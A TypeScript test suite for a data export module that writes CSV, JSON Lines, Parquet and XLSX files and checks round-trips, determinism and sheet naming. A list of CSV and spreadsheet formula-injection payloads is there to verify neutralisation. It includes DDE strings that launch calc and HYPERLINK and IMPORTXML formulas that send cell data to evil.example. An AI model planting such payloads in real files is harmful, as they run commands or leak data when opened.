import { crc32, inflateRawSync } from 'node:zlib'
import t from 'tap'
import fc from 'fast-check'
import XLSX from 'xlsx'
import { parquetMetadata, parquetReadObjects } from 'hyparquet'
import { NO_STAMP, RUN_ID_TOKEN, type OutputFile } from '../../kernel/artifact/files.ts'
import { stampRunId } from '../../kernel/artifact/stamp.ts'
import { encodeFrame } from '../../kernel/artifact/frame.ts'
import { ITEM_SEPARATOR, type Frame } from '../../kernel/artifact/table.ts'
import type { Context, Diagnostic, Operator } from '../../kernel/types.ts'
import { isFormulaLike, neutraliseFormula, restoreFormula } from '../model/formula.ts'
import type { DatasetMeta } from '../model/stages.ts'
import { dateOf, numberOf } from './cell.ts'
import { operator as csv } from './csv/operator.ts'
import { datasetOf, tableFrom } from './dataset.case.ts'
import { operator as jsonl } from './jsonl/operator.ts'
import { operator as parquet } from './parquet/operator.ts'
import { operator as xlsx, writeWorkbook } from './xlsx/operator.ts'
import { createSheetNames } from './xlsx/names.ts'
import { lettersOf } from './xlsx/sheet.ts'

const RUN = 'run-0123456789abcdef0123456789abcdef'
const SEED = { seed: 20_260_101, numRuns: 40 }
const OPERATORS = [csv, jsonl, parquet, xlsx]

function run(operator: Operator, dataset: Frame<DatasetMeta>, found: Diagnostic[] = []): readonly OutputFile[] {
  const context: Context = { pins: { as_of: null, seed: '' }, diagnose: one => void found.push(one), progress() {}, random: () => 0 }
  return operator.run({ dataset: [{ id: 'dataset', kind: 'dataset', hash: '', value: dataset }] }, { export: { list_separator: '; ' } }, context)['files'] as OutputFile[]
}

function fileOf(files: readonly OutputFile[], suffix: string): OutputFile {
  const file = files.find(one => one.suffix === suffix)
  if (file === undefined) throw new Error(`no ${suffix} among ${files.map(one => one.suffix).join(' ')}`)
  return file
}

const textOf = (file: OutputFile): string => new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(file.bytes)

/** RFC 4180, and no more. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let at = 0
  while (at < text.length) {
    const row: string[] = []
    for (;;) {
      let field = ''
      if (text[at] === '"') {
        for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
          if (text[at] === '"') at++
          field += text[at]
        }
        at++
      } else while (text[at] !== ',' && text[at] !== '\r') field += text[at++]
      row.push(field)
      if (text[at++] === ',') continue
      if (text[at++] !== '\n') throw new Error(`a bare carriage return at ${at}`)
      break
    }
    rows.push(row)
  }
  return rows
}

function sheetsOf(file: OutputFile): Map<string, (string | number | boolean | null)[][]> {
  const book = XLSX.read(stampRunId(file, RUN), { type: 'array', WTF: true, cellFormula: true, cellDates: false })
  return new Map(book.SheetNames.map(name => [name, XLSX.utils.sheet_to_json(book.Sheets[name]!, { header: 1, raw: true, defval: null }) as (string | number | boolean | null)[][]]))
}

/** The entries of a zip file by its central directory, with their checksums verified. */
function partsOf(bytes: Uint8Array): Map<string, string> {
  const file = Buffer.from(bytes)
  const end = file.length - 22
  const parts = new Map<string, string>()
  for (let at = file.readUInt32LE(end + 16); at < end; at += 46 + file.readUInt16LE(at + 28)) {
    const name = file.toString('utf8', at + 46, at + 46 + file.readUInt16LE(at + 28))
    const local = file.readUInt32LE(at + 42)
    if (file.readUInt32LE(local + 14) !== file.readUInt32LE(at + 16)) throw new Error(`${name}: two checksums`)
    const start = local + 30 + file.readUInt16LE(local + 26)
    const packed = file.subarray(start, start + file.readUInt32LE(at + 20))
    const data = file.readUInt16LE(at + 10) === 8 ? inflateRawSync(packed) : packed
    if (crc32(data) !== file.readUInt32LE(at + 16) || data.length !== file.readUInt32LE(at + 24)) throw new Error(`${name}: damaged`)
    parts.set(name, data.toString('utf8'))
  }
  return parts
}

/** The dataset with other extra columns: texts as they come. */
function withExtras(cells: readonly (readonly (string | null)[])[]): Frame<DatasetMeta> {
  const dataset = datasetOf()
  const names = cells.map((_, index) => `extra ${index}`)
  const data = dataset.tables[0]!
  const extras = tableFrom('data', Object.fromEntries(names.map((name, index) => [name, cells[index]!])))
  return {
    meta: { ...dataset.meta, schema: { ...dataset.meta.schema, extras: names } },
    tables: [{ ...data, columns: [...data.columns.slice(0, 9), ...extras.columns] }, ...dataset.tables.slice(1)]
  }
}

t.test('CSV', async t => {
  const files = run(csv, datasetOf())
  t.same(files.map(one => one.suffix), ['.csv', '.contact.csv', '.conflicts.csv', '.quarantine.csv'])
  t.ok(files.every(one => one.stamp === NO_STAMP))
  const rows = parseCsv(textOf(files[0]!))
  t.same(rows[0], ['organization_name', 'organization_slug', 'website', 'fleet', 'founded', 'active', 'notes', 'contact_primary_email', 'data_quality_score', 'column D', "'=1+1"])
  t.same(rows[1], ['Blue Crane Aviation', 'blue-crane-aviation', 'https://bluecrane.example/fleet?page=2&lang=en', '12', '1998-03-01', 'true', 'closed on Mondays; said "call back"', 'thandeka@bluecrane.example', '0.82', '', "'@SUM(A1:A9)"])
  t.equal(rows[3]![10], '+27821234567', 'a telephone number stays as it is')
  t.same(parseCsv(textOf(files[1]!)), [
    ['organization_slug', 'name', 'role', 'email', 'phone', 'primary'],
    ['blue-crane-aviation', 'Thandeka Vilakazi', 'Chief flying instructor', 'thandeka@bluecrane.example', '+27821234567', 'yes'],
    ['karoo-wings', 'Quintus Adendorff', '', 'q.adendorff@karoowings.example', '+27115550123; +27115550199', 'yes'],
    ['blue-crane-aviation', 'Oyelaran Bright-Davies', 'Owner', '', '', 'no']
  ])
  t.same(parseCsv(textOf(files[2]!))[2], ['blue-crane-aviation', 'contact.phone', '+27821234567', '+27835550142', 'completeness', 'people.csv', 'people', '4'])
  t.same(parseCsv(textOf(files[3]!))[2], ['people.csv', 'people', '5', 'cell', 'C', 'Mail', 'contact.email', 'ludo.engelbrecht at example', 'EMAIL_INVALID', 'not an e-mail address', 'error'])
  t.ok(textOf(files[0]!).endsWith('\r\n'))
  const bare: Frame<DatasetMeta> = {
    meta: { ...datasetOf().meta, schema: { ...datasetOf().meta.schema, fields: [{ name: 'only' }], groups: {}, extras: [] } },
    tables: [tableFrom('data', { only: ['a', null] }, { base: [1, 2] }), ...datasetOf().tables.slice(2)]
  }
  t.equal(textOf(run(csv, bare)[0]!), 'only\r\na\r\n""\r\n', 'an empty cell alone is still a row')
})

t.test('JSON Lines', async t => {
  const files = run(jsonl, datasetOf())
  t.same(files.map(one => one.suffix), ['.jsonl', '.conflicts.jsonl', '.quarantine.jsonl'])
  const lines = textOf(files[0]!).split('\n')
  t.equal(lines.pop(), '')
  const objects = lines.map(line => JSON.parse(line))
  t.same(objects[0], {
    organization_name: 'Blue Crane Aviation', organization_slug: 'blue-crane-aviation', website: 'https://bluecrane.example/fleet?page=2&lang=en', fleet: 12,
    founded: '1998-03-01', active: true, notes: ['closed on Mondays', 'said "call back"'], contact_primary_email: 'thandeka@bluecrane.example', data_quality_score: 0.82,
    'column D': null, '=1+1': '@SUM(A1:A9)',
    contact: [
      { name: 'Thandeka Vilakazi', role: 'Chief flying instructor', email: 'thandeka@bluecrane.example', phone: '+27821234567', primary: true },
      { name: 'Oyelaran Bright-Davies', role: 'Owner', email: null, phone: null, primary: false }
    ]
  })
  t.strictSame(objects[1].fleet, -4.5)
  t.same(objects[2].contact, [], 'no member is an empty array')
  t.same(objects[2].notes, ['Spoke to Thandeka Vilakazi about hangar 7'])
  t.same(Object.keys(objects[1]), Object.keys(objects[0]), 'every line has every key')
  t.same(JSON.parse(textOf(files[1]!).split('\n')[0]!).row, 3)
})

t.test('Parquet', async t => {
  const files = run(parquet, datasetOf())
  t.same(files.map(one => one.suffix), ['.parquet', '.contact.parquet', '.conflicts.parquet', '.quarantine.parquet'])
  const bytes = stampRunId(files[0]!, RUN)
  const buffer = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer
  const metadata = parquetMetadata(buffer)
  t.same(metadata.key_value_metadata, [{ key: 'hotpass.run_id', value: RUN }, { key: 'hotpass.schema', value: 'urn:hotpass:dataset-parquet:1#data' }])
  t.same(metadata.schema.map(({ name, type, converted_type }) => [name, type, converted_type]).slice(1, 7), [
    ['organization_name', 'BYTE_ARRAY', 'UTF8'], ['organization_slug', 'BYTE_ARRAY', 'UTF8'], ['website', 'BYTE_ARRAY', 'UTF8'], ['fleet', 'DOUBLE', undefined],
    ['founded', 'BYTE_ARRAY', 'UTF8'], ['active', 'BOOLEAN', undefined]
  ], 'a date with a time of day makes its column text')
  const rows = await parquetReadObjects({ file: buffer })
  t.same(rows.map(row => row['fleet']), [12, -4.5, null])
  t.same(rows.map(row => row['active']), [true, false, null])
  t.same(rows[0]!['notes'], 'closed on Mondays; said "call back"')
  const dates = datasetOf()
  const plain: Frame<DatasetMeta> = { ...dates, tables: [{ ...dates.tables[0]!, columns: dates.tables[0]!.columns.map(one => (one.name === 'founded' ? { ...one, values: ['1998-03-01', '1899-12-31'] } : one)) }, ...dates.tables.slice(1)] }
  const file = run(parquet, plain)[0]!
  const read = await parquetReadObjects({ file: file.bytes.buffer as ArrayBuffer })
  t.same(read.map(row => (row['founded'] as Date | null)?.toISOString().slice(0, 10) ?? null), ['1998-03-01', null, '1899-12-31'])
})

t.test('XLSX', async t => {
  const file = run(xlsx, datasetOf())[0]!
  const sheets = sheetsOf(file)
  t.same([...sheets.keys()], ['Data', 'Contact', 'Conflicts', 'Quarantine', 'Summary'])
  const data = sheets.get('Data')!
  t.same(data[1], ['Blue Crane Aviation', 'blue-crane-aviation', 'https://bluecrane.example/fleet?page=2&lang=en', 12, 35_855, true, 'closed on Mondays; said "call back"', 'thandeka@bluecrane.example', 0.82, null, '@SUM(A1:A9)'])
  t.equal(data[3]![4], 43_830 + 86_399 / 86_400, 'a moment')
  t.equal(data[3]![9], ' padded ', 'spaces stay')
  t.same(sheets.get('Contact')![2], ['karoo-wings', 'Quintus Adendorff', null, 'q.adendorff@karoowings.example', '+27115550123; +27115550199', 'yes'])
  const summary = sheets.get('Summary')!
  t.same(summary[1]!.slice(0, 2), ['Run', RUN])
  t.same(summary.find(row => row[0] === 'Total')!.slice(3), [9, 6, 1, 2])
  t.same(summary.find(row => row[0] === 'website')!.slice(0, 4), ['website', 2, 2, 0.6667])

  const bytes = stampRunId(file, RUN)
  const book = XLSX.read(bytes, { type: 'array', WTF: true, cellFormula: true, cellNF: true })
  t.same(book.Custprops, { 'hotpass.run_id': RUN, 'hotpass.schema': 'urn:hotpass:dataset-workbook:1' })
  t.equal((book.Sheets['Data']!['E2'] as { z: string }).z, 'yyyy\\-mm\\-dd')
  t.equal(book.Sheets['Data']!['!autofilter']!.ref, 'A1:K4')
  const parts = partsOf(bytes)
  t.equal(parts.size, 13)
  const sheet = parts.get('xl/worksheets/sheet1.xml')!
  for (const page of [sheet, parts.get('xl/worksheets/sheet2.xml')!]) t.match(page, /<sheetPr><pageSetUpPr fitToPage="1"\/><\/sheetPr>.*<pageSetup orientation="landscape" fitToWidth="1" fitToHeight="0"\/>/s, 'prints all columns side by side')
  t.match(sheet, /<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/)
  t.match(sheet, /<c r="A1" s="1"/)
  t.match(parts.get('xl/styles.xml')!, /FF366092/)
  for (const [name, xml] of parts) {
    t.notMatch(xml, /<f[ >/]/, `${name} holds no formula`)
    t.notMatch(xml, RUN_ID_TOKEN, `${name} holds no token after stamping`)
  }
  const view = new DataView(bytes.buffer, bytes.byteOffset)
  t.equal(view.getUint32(10, true), 0x0021 << 16, 'the first entry is of 1980-01-01 00:00')
})

t.test('a sheet that is full goes on in the next one, and a text that is too long is cut, with a note', async t => {
  const { file } = writeWorkbook(datasetOf(), '; ', 3)
  const sheets = sheetsOf(file)
  t.same([...sheets.keys()], ['Data', 'Data 2', 'Contact', 'Contact 2', 'Conflicts', 'Quarantine', 'Quarantine 2', 'Summary'])
  t.same([sheets.get('Data')!.length, sheets.get('Data 2')!.length], [3, 2])
  t.equal(sheets.get('Data 2')![1]![0], 'Zephyr Flight School')
  t.match(JSON.stringify(sheets.get('Summary')), /Data goes on in further sheets/)
  const found: Diagnostic[] = []
  const long = `${'x'.repeat(32_766)}😀${'y'.repeat(10)}`
  const cut = sheetsOf(run(xlsx, withExtras([[long, null, 'short']]), found)[0]!).get('Data')![1]!.at(-1) as string
  t.equal(cut, 'x'.repeat(32_766), 'no half of a character stays')
  t.same(found.map(one => [one.code, one.severity, one.details]), [['EXPORT_TEXT_CUT', 'warning', { cells: 1 }]])
  const nameOf = createSheetNames()
  t.same(['data', 'DATA', "a[b]:*?/\\'", 'History', '', 'x'.repeat(40), 'x'.repeat(41)].map(nameOf), ['Data', 'DATA 2', 'A_b______', 'History 2', 'Sheet', `X${'x'.repeat(30)}`, `X${'x'.repeat(28)} 2`])
  t.same([0, 25, 26, 701, 702, 16_383].map(lettersOf), ['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD'])
})

/** What spreadsheets have been attacked with, and what only looks like it. */
const FORMULAS = [
  '=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '\ufeff=1',
  '\u0000=1', '|calc', '%0A=1', ';=1', '{=1}', '{ =1}', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)', "'=1", "''=1", '-', '- an item', '+', '+27 (82) 123', '=', '@', "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")", "' =1"
]

t.test('formulas are neutralised, and the original comes back', async t => {
  for (const text of FORMULAS) {
    t.ok(isFormulaLike(text), `${JSON.stringify(text)} is taken for a formula`)
    t.match(neutraliseFormula(text), /^'/)
    t.equal(restoreFormula(neutraliseFormula(text)), text)
  }
  for (const text of ['+27821234567', '-5', '-4.25', '+27821234567; +27831234567', '+27115550123 ext 12', '+27 82 123', "o'clock", "'t Hoenderloo", 'a=b', '12-3', '{}', '{"a":1}', '{a}', '[1]', "'+27821234567".slice(1)]) {
    t.equal(neutraliseFormula(text), text, `${text} stays as it is`)
    t.equal(restoreFormula(text), text)
  }
  fc.assert(fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), fc.array(fc.constantFrom("'", '=', '+', '1', ' ', '\t', 'a', ';', '{')).map(list => list.join(''))), text => restoreFormula(neutraliseFormula(text)) === text), { ...SEED, numRuns: 500 })
  const dataset = withExtras(Array.from({ length: Math.ceil(FORMULAS.length / 3) }, (_, column) => [0, 1, 2].map(row => FORMULAS[column * 3 + row] ?? null)))
  const cells = parseCsv(textOf(run(csv, dataset)[0]!)).slice(1).flatMap(row => row.slice(9)).filter(text => text !== '')
  t.equal(cells.length, FORMULAS.length)
  t.same(cells.filter(text => /^[=+\-@\t\r\n|%;{]/.test(text)), [])
  const book = XLSX.read(run(xlsx, dataset)[0]!.bytes, { type: 'array', WTF: true, cellFormula: true })
  for (const name of book.SheetNames) {
    const live = Object.entries(book.Sheets[name]!).filter(([at, one]) => !at.startsWith('!') && (one as { f?: string }).f !== undefined)
    t.same(live, [], `${name} has no live formula`)
  }
})

t.test('every text comes back from every format', async t => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
    fc.constantFrom(...FORMULAS, '_x0041_', '_x005F_', 'a"b', 'line\nbreak', 'cr\rlf\r\n', '\u0001\u001e', '\uffff', ' ', '&lt;', ']]>', '😀', 'null', 'true', '00123', '1e5', '#N/A', '2020-01-01')
  ).filter(one => one.isWellFormed() && !one.includes(ITEM_SEPARATOR))
  const columns = fc.array(fc.tuple(fc.option(text), fc.option(text), fc.option(text)), { minLength: 1, maxLength: 6 })
  await fc.assert(
    fc.asyncProperty(columns, async cells => {
      const dataset = withExtras(cells)
      const expected = [0, 1, 2].map(row => cells.map(column => column[row] ?? null))
      const fromCsv = parseCsv(textOf(run(csv, dataset)[0]!)).slice(1).map(row => row.slice(9).map(one => (one === '' ? null : restoreFormula(one))))
      const fromJsonl = textOf(run(jsonl, dataset)[0]!).split('\n').slice(0, 3).map(line => cells.map((_, index) => JSON.parse(line)[`extra ${index}`]))
      const fromXlsx = sheetsOf(run(xlsx, dataset)[0]!).get('Data')!.slice(1).map(row => cells.map((_, index) => row[9 + index] ?? null))
      const fromParquet = (await parquetReadObjects({ file: run(parquet, dataset)[0]!.bytes.buffer as ArrayBuffer })).map(row => cells.map((_, index) => row[`extra ${index}`] ?? null))
      // SheetJS itself turns a carriage return and line feed into a line feed.
      const unified = (rows: unknown): string => JSON.stringify(rows).replaceAll('\\r\\n', '\\n')
      if (unified(fromXlsx) !== unified(expected)) throw new Error(`${JSON.stringify(fromXlsx)} is not ${JSON.stringify(expected)}`)
      // hyparquet drops a byte order mark at the start of a text.
      const unmarked = (rows: unknown): string => JSON.stringify(rows).replaceAll('"\ufeff', '"')
      if (unmarked(fromParquet) !== unmarked(expected)) throw new Error(`${JSON.stringify(fromParquet)} is not ${JSON.stringify(expected)}`)
      for (const found of [fromCsv, fromJsonl]) if (JSON.stringify(found) !== JSON.stringify(expected)) throw new Error(`${JSON.stringify(found)} is not ${JSON.stringify(expected)}`)
    }),
    SEED
  )
  t.pass('in CSV, JSON Lines, XLSX and Parquet')
})

t.test('numbers and dates', async t => {
  for (const [text, value] of [['0', 0], ['-4.5', -4.5], ['123456789012345', 123_456_789_012_345], ['0.1', 0.1], ['1.50', 1.5]] as const) t.equal(numberOf(text), value)
  for (const text of ['', '-0', '007', '1e5', '1,5', '+1', '.5', '5.', '1234567890123456', '0.1234567890123456', 'ZAR 12.00', ' 1']) t.equal(numberOf(text), null, `${text} stays text`)
  t.same(dateOf('1970-01-01'), { day: 0, second: null })
  t.same(dateOf('2000-02-29T01:02:03'), { day: 11_016, second: 3723 })
  t.same(dateOf('1900-03-01'), { day: -25_508, second: null })
  for (const text of ['1900-02-29', '2001-02-29', '2020-13-01', '2020-00-10', '2020-01-32', '2020-01-01T24:00:00', '01/02/2020', '2020-1-1']) t.equal(dateOf(text), null, `${text} is no date`)
  fc.assert(fc.property(fc.date({ min: new Date('0001-01-01'), max: new Date('9999-12-31'), noInvalidDate: true }), date => dateOf(date.toISOString().slice(0, 19))!.day === Math.floor(date.getTime() / 86_400_000)), SEED)
})

t.test('the same dataset gives the same bytes, and a dataset is left as it was', async t => {
  for (const operator of OPERATORS) {
    const dataset = datasetOf()
    const before = encodeFrame(dataset)
    const first = run(operator, dataset)
    const second = run(operator, datasetOf())
    t.same(first.map(one => one.suffix), second.map(one => one.suffix))
    for (const [index, file] of first.entries()) t.ok(Buffer.from(file.bytes).equals(second[index]!.bytes), `${operator.id} ${file.suffix}`)
    t.ok(Buffer.from(encodeFrame(dataset)).equals(before))
    for (const file of first) {
      t.equal(stampRunId(file, RUN).length, file.bytes.length)
      t.notOk(file.stamp.at.length > 0 && Buffer.from(stampRunId(file, RUN)).includes(RUN_ID_TOKEN))
    }
  }
  t.equal(fileOf(run(xlsx, datasetOf()), '.xlsx').stamp.at.length, 2, 'the property and the summary')
})

t.test('names from the data cannot break a file', async t => {
  const evil = ['__proto__', 'constructor', 'a"b,c\n', '<&>\'"', '=cmd()', 'row', 'contact']
  const dataset = datasetOf()
  const frame: Frame<DatasetMeta> = {
    meta: { ...dataset.meta, schema: { ...dataset.meta.schema, extras: evil } },
    tables: [{ ...dataset.tables[0]!, columns: [...dataset.tables[0]!.columns.slice(0, 9), ...evil.map(name => ({ name, values: ['v'], kinds: null, codes: Uint32Array.of(1, 0, 1) }))] }, ...dataset.tables.slice(1)]
  }
  t.same(parseCsv(textOf(run(csv, frame)[0]!))[0]!.slice(9).map(restoreFormula), evil)
  t.same(sheetsOf(run(xlsx, frame)[0]!).get('Data')![0]!.slice(9), evil)
  const line = textOf(run(jsonl, frame)[0]!).split('\n')[0]!
  t.match(line, /"__proto__":"v","constructor":"v"/)
  t.equal(JSON.parse(line).contact, 'v')
  t.equal(JSON.parse(line).contact_members.length, 2, 'a group makes way for a column of its name')
  t.same(parquetMetadata(run(parquet, frame)[0]!.bytes.buffer as ArrayBuffer).schema.slice(10).map(({ name }) => name), evil)
})
